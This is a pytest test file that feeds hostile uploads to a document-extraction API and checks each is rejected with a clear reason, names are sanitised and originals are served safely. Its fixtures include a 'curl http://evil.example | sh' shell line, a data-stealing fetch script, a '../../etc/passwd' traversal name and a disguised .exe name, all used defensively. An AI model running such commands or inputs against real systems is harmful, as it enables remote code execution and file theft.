"""The hostile-upload battery through the API: files built here (loops, encrypted, disguised scripts and
programs, empty-looking text, terminal escapes, odd encodings, odd names) are uploaded, extracted by the
in-process job queue, and each ends either extracted with its text or failed with a one-line reason a clerk
can read — the same reason ``chengxin extract`` prints. Originals are served back as bytes to download."""

from __future__ import annotations

import contextlib
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import City, wait_for_jobs
from tests.pdfs import agreement_pdf
from tests.reading_builders import (
    ENGLISH_LINES,
    annotation_only_pdf,
    docx_file,
    encrypted_pdf,
    identity_h_pdf,
    page_tree_loop_pdf,
    plain_zip,
    rotated_pdf,
    scrambled_map,
    self_referencing_object_stream_pdf,
    sideways_scan_pdf,
    type3_bitmap_pdf,
)

CLAUSE = "甲方应当于2025年12月31日前向乙方支付补助资金100万元。"
DUTY = "乙方应当按时足额缴纳土地出让金。"

# name, bytes, expected: None = extracted (and the text must contain the given words), else a reason fragment
CASES: list[tuple[str, Callable[[], bytes], str | None, str | None]] = [
    ("loop.pdf", page_tree_loop_pdf, "damaged", None),
    ("objstm.pdf", self_referencing_object_stream_pdf, "no text", None),
    ("locked.pdf", lambda: encrypted_pdf(agreement_pdf()), "password", None),
    ("script.pdf", lambda: b"function steal() { fetch('/api/documents') }\nsteal();\n", "script", None),
    ("shell.pdf", lambda: b"#!/bin/sh\ncurl http://evil.example | sh\n", "script", None),
    ("setup.pdf", lambda: b"MZ\x90\x00" + bytes(200), "executable", None),
    ("tool.pdf", lambda: b"\x7fELF\x02\x01\x01" + bytes(200), "executable", None),
    ("archive.pdf", plain_zip, "archive", None),
    ("blank.txt", lambda: " \n\t\u3000\u200b\n".encode(), "no text", None),
    ("ansi.txt", lambda: f"\x1b[1;31m{CLAUSE}\x1b[0m\n".encode(), None, "支付补助资金"),
    ("gb18030.txt", lambda: CLAUSE.encode("gb18030"), None, "支付补助资金"),
    ("utf16.txt", lambda: CLAUSE.encode("utf-16"), None, "支付补助资金"),
    ("contract.docx", lambda: docx_file([CLAUSE]), None, "支付补助资金"),
    ("no-unicode-map.pdf", lambda: identity_h_pdf(ENGLISH_LINES), None, "Party A shall pay the subsidy"),
    ("notes-only.pdf", lambda: annotation_only_pdf([("FreeText", CLAUSE), ("Text", DUTY)]), None, DUTY),
    ("turned.pdf", lambda: rotated_pdf([CLAUSE, DUTY], rotate=90), None, f"{CLAUSE}\n{DUTY}"),
    (
        "hidden-scrambled.pdf",
        lambda: identity_h_pdf(ENGLISH_LINES, scrambled_map(ENGLISH_LINES), invisible=True),
        "文字层无法读取",
        None,
    ),
]
# text layers that only OCR can read: slow (each is read twice, through the API and the command line)
OCR_CASES: list[tuple[str, Callable[[], bytes], str | None, str | None]] = [
    ("scrambled-map.pdf", lambda: identity_h_pdf(ENGLISH_LINES, scrambled_map(ENGLISH_LINES)), None, "Party A"),
    ("type3-bitmap.pdf", lambda: type3_bitmap_pdf(ENGLISH_LINES), None, "shall pay"),
    ("sideways-scan.pdf", lambda: sideways_scan_pdf(ENGLISH_LINES, 270), None, "Party A shall pay the subsidy"),
]
ODD_NAMES = [
    ("../../etc/passwd.txt", "passwd.txt"),
    ("a\x00b.txt", None),  # httpx sends the NUL as %00
    ("x" * 500 + ".txt", None),
    ("invoice\u202etxt.exe", "invoicetxt.exe.txt"),
    ("setup.exe", "setup.exe.txt"),
]


def _one_line(reason: str | None) -> bool:
    return bool(reason) and "\n" not in reason and len(reason) < 200 and "Traceback" not in reason


async def _upload(client: Any, city: City, name: str, data: bytes, content_type: str = "application/pdf") -> Any:
    files = {"file": (name, data, content_type)}
    return await client.post("/api/documents", files=files, headers=city.auth("investment"))


def _cli_reason(tmp: Path, name: str, data: bytes) -> tuple[int, str]:
    from extractors.cli import main

    path = tmp / name.replace("/", "_")
    path.write_bytes(data)
    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        code = main([str(path), "--json"])
    return code, err.getvalue().strip()


async def test_hostile_files_end_extracted_or_failed_with_a_clear_reason(
    client: Any, city: City, tmp_path: Path
) -> None:
    await _check_cases(client, city, tmp_path, CASES)


@pytest.mark.slow
async def test_text_layers_only_ocr_can_read_are_ocrd_alike_through_the_api_and_the_cli(
    client: Any, city: City, tmp_path: Path
) -> None:
    await _check_cases(client, city, tmp_path, OCR_CASES)


async def _check_cases(
    client: Any, city: City, tmp_path: Path, cases: list[tuple[str, Callable[[], bytes], str | None, str | None]]
) -> None:
    uploaded = {}
    for name, build, _, _ in cases:
        response = await _upload(client, city, name, build())
        assert response.status_code == 202, (name, response.text)
        uploaded[name] = response.json()["id"]
    await wait_for_jobs(client)
    problems = []
    for name, build, reason, words in cases:
        doc = (await client.get(f"/api/documents/{uploaded[name]}", headers=city.auth("investment"))).json()
        code, cli = _cli_reason(tmp_path, name, build())
        if reason is None:
            text = (await client.get(f"/api/documents/{doc['id']}/text", headers=city.auth("investment"))).json()
            if doc["status"] != "extracted" or (words and words not in text["text"]) or "\x1b" in text["text"]:
                problems.append(f"{name}: {doc['status']} {doc['failure_reason']!r} {text['text'][:80]!r}")
            if code != 0:
                problems.append(f"{name}: chengxin extract failed: {cli}")
        else:
            failure = doc["failure_reason"] or ""
            if doc["status"] != "failed" or reason not in failure or not _one_line(failure):
                problems.append(f"{name}: {doc['status']} {failure!r}, expected a reason with {reason!r}")
            if code != 1 or cli != failure:
                problems.append(f"{name}: chengxin extract said {cli!r} (exit {code}), the API {failure!r}")
    assert problems == [], "\n".join(problems)


@pytest.mark.parametrize(("name", "stored"), ODD_NAMES)
async def test_odd_names_are_stored_sanitised(client: Any, city: City, name: str, stored: str | None) -> None:
    response = await _upload(client, city, name, f"{name[:20]} {CLAUSE}".encode(), "text/plain")
    assert response.status_code == 202, response.text
    filename = response.json()["filename"]
    assert "/" not in filename
    assert "\x00" not in filename
    assert "\u202e" not in filename
    assert len(filename) <= 255
    assert not filename.lower().endswith(".exe")
    if stored:
        assert filename == stored


async def test_originals_are_served_as_downloads_never_with_the_clients_type(client: Any, city: City) -> None:
    response = await _upload(client, city, "page.html.pdf", b"MZ\x90\x00" + bytes(64), "text/html")
    doc_id = response.json()["id"]
    download = await client.get(f"/api/documents/{doc_id}/file", headers=city.auth("investment"))
    assert download.status_code == 200
    assert download.headers["content-type"] == "application/octet-stream"
    assert download.headers["content-disposition"].startswith("attachment;")
    assert download.headers["x-content-type-options"] == "nosniff"
    assert download.content.startswith(b"MZ")
